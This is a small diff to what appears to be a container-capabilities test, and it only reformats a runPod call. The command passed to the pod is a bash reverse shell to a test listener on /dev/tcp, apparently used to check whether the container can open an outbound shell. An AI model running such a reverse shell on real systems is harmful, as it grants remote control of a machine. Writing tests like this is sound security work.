@@ -44,7 +44,11 @@ describe.skipIf(unavailable)('capabilities: each granted one is needed', () => {
     const listener = await listen(gateway);
     listeners.push(listener);
     const pod = runPod({
-      namespace: 'caps', pod: name, container: 'app', image: TOOLS, extraArgs: ['--user', user],
+      namespace: 'caps',
+      pod: name,
+      container: 'app',
+      image: TOOLS,
+      extraArgs: ['--user', user],
       command: ['bash', '-c', `bash -i >& /dev/tcp/${gateway}/${listener.port} 0>&1`],
     });
     await listener.waitForConnection(15_000);
